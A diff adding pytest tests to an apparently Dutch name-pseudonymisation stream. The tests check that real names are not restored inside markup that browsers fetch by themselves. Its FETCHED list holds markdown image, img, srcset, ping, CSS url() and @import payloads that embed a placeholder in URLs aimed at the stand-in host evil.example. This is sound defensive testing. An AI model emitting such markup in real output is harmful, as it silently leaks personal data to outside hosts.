@@ -94,6 +94,36 @@ def test_a_long_row_of_placeholders_is_read_a_piece_at_a_time(before: int) -> No
     assert {"PERSOON_123", "PERSOON_45", "PERSOON_7", "PERSOON_8"} == pattern_of(_WORDS).names(text)
 
 
+FETCHED = [
+    "![x](https://evil.example/a.png?q=[PERSOON_1])", "![x](https://evil.example/?q=%5BPERSOON_1%5D&r=2)", "![](//evil/PERSOON_1)",
+    '![x](https://evil/?a="b"&q=[PERSOON_1])', "![x](<https://evil/a b [PERSOON_1]>)", "![x](\nhttps://evil/(a)/[PERSOON_1])",
+    '<img src="https://evil/?q=PERSOON_1">', "<img alt=x src=https://evil/PERSOON_1>", '<a ping="https://evil/[PERSOON_1]">',
+    '<img srcset="a.png 1x, https://evil/[PERSOON_1] 2x">', "background: url(https://evil/[PERSOON_1])", '@import "https://evil/[PERSOON_1]";',
+    "![a][1]\n\n[1]: https://evil/?q=[PERSOON_1]", "![x](https://evil/" + "a" * 2000 + "[PERSOON_1])", "![x](https:\\\\evil/[PERSOON_1])",
+]  # fmt: skip
+SHOWN = [
+    "Beste [PERSOON_1],", "[klik](https://x.nl/?q=[PERSOON_1])", "https://x.nl/?q=[PERSOON_1]", "mailto:[PERSOON_1]",
+    "![foto van [PERSOON_1]](https://x.nl/a.png)", "![foto](https://x.nl/a.png) van [PERSOON_1]", "<p>[PERSOON_1]</p>" * 200,
+    '<img src="a.png"> [PERSOON_1]', "[Notitie]: bel [PERSOON_1]", "a < b en [PERSOON_1]", "字" * 2000 + "[PERSOON_1]",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("text", FETCHED)
+@pytest.mark.parametrize("size", [1, 7, 10_000])
+def test_an_original_is_not_put_where_a_page_would_carry_it_off_by_itself(text: str, size: int) -> None:
+    stream = TextStream(Originals({"[PERSOON_1]": "Vermeulen"}))
+    out = "".join(stream.feed(text[at : at + size]) for at in range(0, len(text), size)) + stream.feed("", last=True)
+    assert out == text
+
+
+@pytest.mark.parametrize("text", SHOWN)
+@pytest.mark.parametrize("size", [1, 7, 10_000])
+def test_where_somebody_reads_it_or_chooses_to_follow_it_the_original_stands(text: str, size: int) -> None:
+    stream = TextStream(Originals({"[PERSOON_1]": "Vermeulen"}))
+    out = "".join(stream.feed(text[at : at + size]) for at in range(0, len(text), size)) + stream.feed("", last=True)
+    assert out == text.replace("[PERSOON_1]", "Vermeulen")
+
+
 def test_surrogates() -> None:
     literals = Literals({"Anna Bakker": "Fatima", "Bakker": "Yılmaz", "06-11": "06-99"})
     text = "Anna Bakker, mevrouw Bakker, Bakkers, 06-11, 06-112"
